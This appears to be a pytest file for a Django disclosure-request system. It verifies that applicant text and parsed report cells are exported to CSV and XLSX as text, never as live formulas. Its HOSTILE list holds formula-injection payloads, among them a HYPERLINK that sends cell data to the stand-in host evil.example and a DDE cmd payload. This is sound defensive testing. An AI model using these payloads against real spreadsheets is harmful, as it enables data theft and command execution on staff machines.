"""Text typed by the public never becomes a live formula in a spreadsheet staff open."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from gongkai.core.spreadsheet import csv_safe
from gongkai.reports import serialization

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&C3,"点击查看原件")',
    "=cmd|' /C calc'!A0 请公开文件",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_queue_export_writes_applicant_text_as_text(client, clerk, received_case, text):
    received_case.applicant_name = text
    received_case.description = text + " 请公开文件"
    received_case.save()
    client.force_login(clerk)
    response = client.get(reverse("office:queue_export"), {"tab": "all"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert text in [c.value for c in cells]  # shown exactly as typed


@pytest.mark.parametrize("text", HOSTILE)
def test_the_report_csv_prefixes_formula_like_values(text):
    out = serialization.to_csv([{"file": text, "message": "ok"}], ["file", "message"])
    value = next(csv.DictReader(io.StringIO(out)))["file"]
    assert value == "'" + text


def test_the_report_xlsx_has_no_formula_cells():
    body = serialization.to_xlsx(
        {"单元格": (["file", "n"], [{"file": t, "n": 1} for t in HOSTILE])}
    )
    sheet = load_workbook(io.BytesIO(body)).active
    assert [c.value for c in sheet["A"][1:]] == HOSTILE
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_ordinary_values_are_left_alone():
    assert csv_safe("太仓市人民政府") == "太仓市人民政府"
    assert csv_safe(-3) == -3


@pytest.mark.parametrize("text", HOSTILE)
def test_the_annual_report_xlsx_writes_a_parsed_cells_text_as_text(text):
    """A published report ingested from an agency's document keeps the text of cells it
    could not read as numbers; its XLSX download must not turn that text into a formula."""
    import dataclasses

    from gongkai.reports.annual import render
    from tests.reports.reportcorpus import truth as corpus_truth

    report = serialization.from_truth(corpus_truth("seed-000"))
    report.agency, report.year = "太仓市人民政府", 2019
    row = report.active.rows["central_procurement"]
    amount = row.cells["procurement_amount"]
    row.cells["procurement_amount"] = dataclasses.replace(amount, text=text)
    book = load_workbook(io.BytesIO(render.render_xlsx(report)))
    cells = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith(text) for c in cells if c.value)
